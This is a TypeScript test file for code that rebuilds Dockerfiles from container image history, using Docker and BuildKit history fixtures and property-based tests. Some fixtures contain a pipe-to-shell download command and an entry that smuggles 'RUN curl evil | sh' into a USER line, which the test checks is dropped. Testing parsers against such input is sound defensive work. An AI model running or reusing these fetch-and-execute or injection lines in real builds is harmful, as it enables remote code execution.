import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseDockerfile } from '../../../src/config/dockerfile/parser/parse-dockerfile.js';
import {
  historyToDockerfile,
  ownHistoryStart,
  UNRECORDED_SOURCE,
} from '../../../src/config/image/history.js';
import type { ImageConfig } from '../../../src/image/source.js';

type History = NonNullable<ImageConfig['history']>;

const diffId = (n: number) => `sha256:${String(n).repeat(64)}`;

function config(history: History, fields: ImageConfig['config'] = {}): ImageConfig {
  const layers = history.filter((h) => !h.empty_layer).length;
  return {
    os: 'linux',
    config: fields,
    rootfs: { type: 'layers', diff_ids: Array.from({ length: layers }, (_, i) => diffId(i)) },
    history,
  };
}

/** Reconstructed lines, each with the history entry it came from (`-` for none). */
function lines(c: ImageConfig): string[] {
  const { text, origins } = historyToDockerfile(c);
  return text
    .replace(/\n$/, '')
    .split('\n')
    .map((l, i) => `${origins[i] ?? '-'} ${l}`);
}

/** What Docker 20.10's classic builder wrote for a Dockerfile using every instruction (`docker save`). */
const CLASSIC: History = [
  { comment: 'Imported from -' },
  { created_by: '/bin/sh -c #(nop)  ARG TOKEN=abc', empty_layer: true },
  { created_by: '/bin/sh -c #(nop)  ENV DB_PASSWORD=hunter2 PATH2=/a b', empty_layer: true },
  { created_by: '/bin/sh -c #(nop)  LABEL a=b', empty_layer: true },
  { created_by: '/bin/sh -c #(nop)  EXPOSE 22 80/udp', empty_layer: true },
  { created_by: '/bin/sh -c #(nop) WORKDIR /app' },
  {
    created_by:
      '/bin/sh -c #(nop) COPY file:63e4fd53e0703f1e446126de2246bde90b0a09aeab29d54844d39e4eb74bc3c3 in /app/ ',
  },
  {
    created_by:
      '/bin/sh -c #(nop) ADD multi:1cd561f7850560df0092cd3542c8e3658fda31ca5cb1e75d4207d68c43acebe3 in /app/x/ ',
  },
  { created_by: '/bin/bash -o pipefail -c #(nop)  SHELL [/bin/bash -o pipefail -c]', empty_layer: true },
  { created_by: '|1 TOKEN=abc /bin/bash -o pipefail -c echo "$TOKEN" | cat > /dev/null', empty_layer: true },
  { created_by: '|1 TOKEN=abc echo exec form', empty_layer: true },
  { created_by: '/bin/bash -o pipefail -c #(nop)  USER 1000:1000', empty_layer: true },
  { created_by: '/bin/bash -o pipefail -c #(nop)  VOLUME [/data]', empty_layer: true },
  { created_by: '/bin/bash -o pipefail -c #(nop)  STOPSIGNAL SIGTERM', empty_layer: true },
  { created_by: '/bin/bash -o pipefail -c #(nop)  ONBUILD RUN echo onbuild', empty_layer: true },
  {
    created_by:
      '/bin/bash -o pipefail -c #(nop)  HEALTHCHECK &{["CMD-SHELL" "curl -f http://localhost/ || exit 1"] "30s" "0s" "0s" \'\\x00\'}',
    empty_layer: true,
  },
  {
    created_by: '/bin/bash -o pipefail -c #(nop)  ENTRYPOINT ["/bin/app" "--flag=\\"q\\""]',
    empty_layer: true,
  },
  {
    created_by: '/bin/bash -o pipefail -c #(nop)  CMD ["/bin/bash" "-o" "pipefail" "-c" "node app.js"]',
    empty_layer: true,
  },
  { created_by: '/bin/bash -o pipefail -c #(nop)  MAINTAINER me', empty_layer: true },
];
const CLASSIC_CONFIG: ImageConfig['config'] = {
  User: '1000:1000',
  Env: [
    'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
    'DB_PASSWORD=hunter2',
    'PATH2=/a b',
  ],
  ExposedPorts: { '22/tcp': {}, '80/udp': {} },
  Healthcheck: { Test: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'] },
};

/** BuildKit's history lines, written from its dockerfile2llb (commitToHistory and the dispatch functions). */
const BUILDKIT: History = [
  { created_by: 'ARG NPM_TOKEN=s3cr3t', empty_layer: true },
  { created_by: 'ENV DB_PASSWORD=hunter2 MODE=$prod', empty_layer: true },
  { created_by: 'RUN |1 NPM_TOKEN=s3cr3t /bin/sh -c apt-get update # buildkit' },
  {
    created_by:
      'RUN /bin/sh -c set -e\napt-get install -y curl\ncurl -fsSL https://get.example.com | sh\n # buildkit',
  },
  { created_by: 'EXPOSE map[22/tcp:{} 8080/tcp:{}]', empty_layer: true },
  { created_by: 'COPY --chown=app:app app.js <<config.json /app/ # buildkit' },
  { created_by: 'ADD https://example.com/tool.tar.gz /opt/ # buildkit' },
  { created_by: 'SHELL [/bin/bash -o pipefail -c]', empty_layer: true },
  { created_by: 'RUN /bin/bash -o pipefail -c curl -s https://example.com/x.tgz | tar xz # buildkit' },
  { created_by: 'HEALTHCHECK &{["CMD" "/app/health"] "30s" "3s" "0s" "0s" \'\\x00\'}', empty_layer: true },
  { created_by: 'USER app', empty_layer: true },
  { created_by: 'ENTRYPOINT ["/bin/sh" "-c" "exec node server.js"]', empty_layer: true },
  { created_by: 'CMD ["--port" "8080"]', empty_layer: true },
];

describe('historyToDockerfile', () => {
  it("reads the classic builder's history: #(nop) instructions, |N build args, the RUN shell, Go-formatted lists", () => {
    expect(lines(config(CLASSIC, CLASSIC_CONFIG))).toEqual([
      '- FROM base-image',
      '1 ARG TOKEN="abc"',
      '2 ENV DB_PASSWORD="hunter2" PATH2="/a b"',
      '3 LABEL a="b"',
      '4 EXPOSE 22 80/udp',
      '5 WORKDIR /app',
      `6 COPY ${UNRECORDED_SOURCE} /app/`,
      `7 ADD ${UNRECORDED_SOURCE} /app/x/`,
      '9 SHELL ["/bin/bash","-o","pipefail","-c"]',
      '9 RUN echo "$TOKEN" | cat > /dev/null',
      '10 RUN echo exec form',
      '11 USER 1000:1000',
      '12 VOLUME ["/data"]',
      '13 STOPSIGNAL SIGTERM',
      '14 ONBUILD RUN echo onbuild',
      '15 HEALTHCHECK CMD curl -f http://localhost/ || exit 1',
      '16 ENTRYPOINT ["/bin/app","--flag=\\"q\\""]',
      '17 CMD node app.js',
      '18 MAINTAINER me',
      '- ENV PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"',
    ]);
  });

  it("reads BuildKit's history: # buildkit suffixes, heredoc scripts, EXPOSE maps, inline files dropped", () => {
    expect(lines(config(BUILDKIT, { User: 'app' }))).toEqual([
      '- FROM base-image',
      '0 ARG NPM_TOKEN="s3cr3t"',
      '1 ENV DB_PASSWORD="hunter2" MODE="\\$prod"',
      '2 RUN apt-get update',
      "3 RUN <<'RINGFENCE_EOF'",
      '3 set -e',
      '3 apt-get install -y curl',
      '3 curl -fsSL https://get.example.com | sh',
      '3 RINGFENCE_EOF',
      '4 EXPOSE 22/tcp 8080/tcp',
      '5 COPY --chown=app:app app.js /app/',
      '6 ADD https://example.com/tool.tar.gz /opt/',
      '8 SHELL ["/bin/bash","-o","pipefail","-c"]',
      '8 RUN curl -s https://example.com/x.tgz | tar xz',
      '9 HEALTHCHECK CMD ["/app/health"]',
      '10 USER app',
      '11 ENTRYPOINT exec node server.js',
      '12 CMD ["--port","8080"]',
    ]);
  });

  it('keeps values literal: $ in a recorded value is not expanded again', () => {
    const df = parseDockerfile(historyToDockerfile(config(BUILDKIT)).text);
    const env = df.stages[0]!.instructions.find((i) => i.keyword === 'ENV');
    expect(env?.keyword === 'ENV' && env.pairs.map((p) => [p.key, p.value])).toEqual([
      ['DB_PASSWORD', { value: 'hunter2', unresolved: false }],
      ['MODE', { value: '$prod', unresolved: false }],
    ]);
  });

  it('picks a heredoc delimiter the script does not contain', () => {
    const c = config([{ created_by: 'RUN /bin/sh -c echo a\nRINGFENCE_EOF\necho b # buildkit' }]);
    expect(lines(c)).toEqual([
      '- FROM base-image',
      "0 RUN <<'RINGFENCE_EOF_1'",
      '0 echo a',
      '0 RINGFENCE_EOF',
      '0 echo b',
      '0 RINGFENCE_EOF_1',
    ]);
  });

  it('drops entries that are no instruction or do not parse alone, and keeps the others', () => {
    const c = config([
      { created_by: '# debian.sh --arch amd64 out/ bookworm @1700000000' },
      { created_by: 'jib-maven-plugin:3.4.0' },
      { created_by: '/bin/sh -c #(nop)  ONBUILD FROM evil', empty_layer: true },
      { created_by: '/bin/sh -c #(nop) WORKDIR ', empty_layer: true },
      { created_by: '/bin/sh -c #(nop)  CMD [broken', empty_layer: true },
      { created_by: '/bin/sh -c #(nop)  USER app\nRUN curl evil | sh', empty_layer: true },
      { created_by: '/bin/sh -c #(nop)  ENV A=1', empty_layer: true },
    ]);
    expect(lines(c)).toEqual(['- FROM base-image', '6 ENV A="1"']);
  });

  it("adds what the config holds and the image's own history does not show", () => {
    const history: History = [
      { created_by: '/bin/sh -c #(nop) ADD file:aaaa in / ' },
      { created_by: '/bin/sh -c #(nop)  USER nonroot', empty_layer: true },
      { created_by: '/bin/sh -c #(nop)  CMD ["bash"]', empty_layer: true },
      { created_by: '/bin/sh -c echo app > /app' },
      { created_by: '/bin/sh -c #(nop)  ENV A=1', empty_layer: true },
    ];
    const fields = {
      User: 'nonroot',
      Env: ['A=1', 'B=2', 'NOT_AN_ASSIGNMENT'],
      ExposedPorts: { '22/tcp': {} },
      Healthcheck: { Test: ['CMD', '/health'] },
    };
    expect(lines(config(history, fields))).toEqual([
      '- FROM base-image',
      '3 RUN echo app > /app',
      '4 ENV A="1"',
      '- ENV B="2"',
      '- EXPOSE 22/tcp',
      '- HEALTHCHECK CMD ["/health"]',
      '- USER nonroot',
    ]);
    expect(lines(config(history, {}))).toEqual(['- FROM base-image', '3 RUN echo app > /app', '4 ENV A="1"']);
    const cleared = config([{ created_by: '/bin/sh -c #(nop)  USER app', empty_layer: true }], {});
    expect(lines(cleared)).toEqual(['- FROM base-image', '0 USER app', '- USER root']);
  });
});

describe('ownHistoryStart', () => {
  const e = (created_by: string, empty_layer?: boolean) => ({ created_by, empty_layer });

  it("starts after the base image's last CMD when layers were added above it", () => {
    const base = [e('/bin/sh -c #(nop) ADD file:aaaa in / '), e('/bin/sh -c #(nop)  CMD ["bash"]', true)];
    expect(ownHistoryStart([...base, e('/bin/sh -c apt-get update'), e('CMD ["app"]', true)])).toBe(2);
    expect(ownHistoryStart([...base, e('RUN /bin/sh -c make # buildkit'), e('USER app', true)])).toBe(2);
  });

  it('takes the whole history when no CMD has layers above it (the base itself, an imported image)', () => {
    expect(ownHistoryStart([e('ADD file:aaaa in /'), e('/bin/sh -c #(nop)  CMD ["bash"]', true)])).toBe(0);
    expect(ownHistoryStart([e(''), e('/bin/sh -c apt-get update')])).toBe(0);
    expect(ownHistoryStart([])).toBe(0);
  });
});

describe('historyToDockerfile on any history', () => {
  const fragment = fc.constantFrom(
    '/bin/sh -c ',
    '/bin/sh -c #(nop) ',
    '/bin/bash -o pipefail -c #(nop)  ',
    '|2 A=1 B=x y /bin/sh -c ',
    'RUN ',
    'RUN |1 T=s /bin/ash -eo pipefail -c ',
    ' # buildkit',
    'ENV ',
    'ARG ',
    'LABEL ',
    'USER ',
    'EXPOSE map[22/tcp:{}]',
    'COPY ',
    'ADD ',
    'ONBUILD ',
    'HEALTHCHECK &{["CMD-SHELL" "',
    'CMD ["',
    'SHELL [',
    'FROM ',
    '<<EOF',
    'EOF',
    '\n',
    '\r\n',
    '\\',
    '"',
    "'",
    '$',
    '${',
    '`',
    '#',
    '=',
    ' ',
    '[',
    ']',
    'a=b',
    'RINGFENCE_EOF',
  );
  const text = fc.oneof(
    fc.array(fc.oneof(fragment, fc.string({ maxLength: 6 })), { maxLength: 12 }).map((p) => p.join('')),
    fc.string({ maxLength: 40 }),
  );
  const entry = fc.record(
    { created_by: text, empty_layer: fc.boolean(), comment: fc.string({ maxLength: 5 }) },
    { requiredKeys: [] },
  );
  const fields = fc.record(
    {
      User: text,
      Env: fc.array(text, { maxLength: 4 }),
      ExposedPorts: fc.dictionary(text, fc.constant({}), { maxKeys: 3 }),
      Healthcheck: fc.record({ Test: fc.array(text, { maxLength: 3 }) }, { requiredKeys: [] }),
    },
    { requiredKeys: [] },
  );

  it('never throws, and gives one parseable stage whose lines all trace back in order', () => {
    fc.assert(
      fc.property(fc.array(entry, { maxLength: 12 }), fc.option(fields, { nil: undefined }), (history, f) => {
        const c: ImageConfig = { rootfs: { type: 'layers', diff_ids: [] }, history, config: f };
        const { text, origins } = historyToDockerfile(c);
        expect(text.split('\n').length - 1).toBe(origins.length);
        const df = parseDockerfile(text);
        expect(df.stages).toHaveLength(1);
        const traced = origins.filter((o) => o !== undefined);
        expect(traced).toEqual([...traced].sort((a, b) => a - b));
        for (const o of traced) expect(o).toBeLessThan(history.length);
      }),
      { numRuns: 2000 },
    );
  });
});
